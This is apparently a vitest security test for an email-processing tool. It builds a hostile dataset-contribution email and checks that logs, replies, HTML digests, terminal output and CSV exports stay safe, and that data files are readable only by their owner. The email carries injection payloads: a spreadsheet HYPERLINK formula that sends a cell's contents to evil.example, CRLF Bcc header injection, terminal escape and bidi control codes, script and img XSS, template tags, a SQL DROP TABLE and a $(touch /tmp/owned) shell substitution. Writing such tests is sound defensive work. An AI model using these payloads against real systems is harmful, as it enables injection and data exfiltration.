/** One hostile mail through the whole program: what of it comes out, and where. Run from `dist`, after a build. */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type FakeSmtp, startFakeSmtp } from '../support/fake-smtp.ts';
import { arrive, type Ended, freshDir, removeDir, run, type Settings } from '../support/program.ts';

const NAME =
  '=HYPERLINK("https://evil.example/?"&A1)\u001b[2J\u202e<img src=x onerror=alert(1)>{{ form }}{% include "x" %}';
const encoded = (text: string): string => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;
const HOSTILE = [
  `From: ${encoded('Eve\r\nBcc: victim@example.org\r\n')} <eve@example.org>`,
  'To: data@thealliance.ai',
  `Subject: ${encoded(`I want to contribute a dataset\r\nBcc: victim@example.org\r\n\u001b[31m${NAME}`)}`,
  'Message-ID: <eve@mail.example.org>',
  `Date: ${new Date().toUTCString()}`,
  'MIME-Version: 1.0',
  'Content-Type: text/plain; charset=utf-8',
  'Content-Transfer-Encoding: 8bit',
  '',
  `Dataset name: ${NAME}`,
  'Dataset location (URL): https://data.example.org/x"><script>alert(1)</script>',
  "I want the Alliance to host it: No'; DROP TABLE message; --",
  'My email address: $(touch /tmp/owned)@example.org',
  'I agree to the terms for contribution: Yes',
  '',
].join('\r\n');

/** A question, which a person must answer: so it stands in the digest. */
const QUESTION = [
  `From: ${encoded(NAME)} <mallory@example.org>`,
  'To: data@thealliance.ai',
  `Subject: ${encoded(`A question about ${NAME}`)}`,
  'Message-ID: <mallory@mail.example.org>',
  `Date: ${new Date().toUTCString()}`,
  '',
  `Dear team, how may I cite the datasets that you publish? ${NAME.replace('\u202e', '').replace('\u001b', '')}`,
  '',
].join('\r\n');

let dir: string;
let smtp: FakeSmtp;
let settings: Settings;
let polled: Ended;
beforeAll(async () => {
  [dir, smtp] = [freshDir(), await startFakeSmtp()];
  settings = {
    ...{ SMTP_HOST: '127.0.0.1', SMTP_PORT: String(smtp.port), SMTP_SECURITY: 'none' },
    ...{ REVIEWERS: 'rita@example.net', LOG_LEVEL: 'info', LOG_FORMAT: 'json' },
  };
  arrive(dir, 'eve', Buffer.from(HOSTILE));
  arrive(dir, 'mallory', Buffer.from(QUESTION));
  smtp.fault = (step, text) => (step === 'RCPT' ? `250 2.1.5 ${text.slice(8)} ok` : undefined);
  polled = await run(dir, ['poll'], settings);
  await run(dir, ['digest', '--send'], settings);
  await run(dir, ['poll'], settings);
});
afterAll(async () => {
  await smtp.stop();
  removeDir(dir);
});

const CONTROLS = /[\p{Cc}\u202a-\u202e]/u;
const linesOf = (text: string): readonly string[] => text.replaceAll('\r\n', '\n').split('\n');

test('fault: a hostile mail | user sees: lines without control characters or addresses | guaranteed: no line of the log is forged, no terminal repainted, nobody named at level info', () => {
  expect(polled.exit).toBe(0);
  expect(polled.err).toMatch(/decided/);
  for (const line of linesOf(polled.err)) expect(line).not.toMatch(CONTROLS);
  expect(polled.err).not.toMatch(/eve@|mallory@|victim@|rita@/);
});

test('fault: header fields in a subject and in a name | user sees: a reply to the sender alone | guaranteed: nothing of a mail becomes a header field', () => {
  const replies = smtp.taken.filter(({ to }) => to.includes('eve@example.org'));
  expect(replies).toHaveLength(1);
  expect(smtp.taken.some(({ to }) => to.includes('victim'))).toBe(false);
  for (const { data } of smtp.taken) {
    const head = data.slice(0, data.indexOf('\r\n\r\n'));
    expect(head).not.toMatch(/^(?:Bcc|Cc):/im);
    for (const line of head.split('\r\n')) expect(line).toMatch(/^(?:[A-Za-z-]+: |[ \t])[\x20-\x7e]*$/);
  }
});

test('fault: markup in a name | user sees: the text as it stands | guaranteed: it is escaped in letters, in the digest by mail and in the page', async () => {
  const page = await run(dir, ['digest', '--format', 'html'], settings);
  const drawn = smtp.taken.flatMap(({ data }) =>
    data
      .replaceAll('=\r\n', '')
      .split(/^Content-Type: text\/html/m)
      .slice(1),
  );
  expect(drawn.length).toBeGreaterThan(0);
  for (const html of [page.out, ...drawn]) expect(html).not.toMatch(/<script|<img/i);
  expect(page.out).toContain('&lt;img src=x onerror=alert(1)&gt;{{ form }}{% include');
});

test.each(['list --messages', 'list', 'show DS-0001', 'explain M-0001', 'digest', 'outbox --all', 'status'])(
  'fault: control characters in a mail, shown by mailroom %s | user sees: text | guaranteed: the terminal obeys nothing',
  async (words) => {
    const { exit, out, err } = await run(dir, words.split(' '), settings);
    expect([0, 69]).toContain(exit);
    for (const line of linesOf(out + err)) expect(line).not.toMatch(CONTROLS);
  },
);

test('fault: a formula in a name | user sees: the name with an apostrophe | guaranteed: no cell of the export begins like a formula', async () => {
  const { out } = await run(dir, ['export'], settings);
  expect(out).toContain('HYPERLINK');
  expect(out).not.toMatch(/(?:^|,)"?[=+@-]/m);
});

test('fault: other users of the machine | user sees: nothing | guaranteed: the database, the key and the mails are for the owner alone', () => {
  const data = join(dir, 'data');
  const files = readdirSync(data, { recursive: true, encoding: 'utf8' }).map((name) => join(data, name));
  const open = files.filter((path) => !path.includes('/mailbox') && (statSync(path).mode & 0o077) !== 0);
  expect(open).toEqual([]);
  expect(readFileSync(join(data, 'mailroom.db')).length).toBeGreaterThan(0);
});
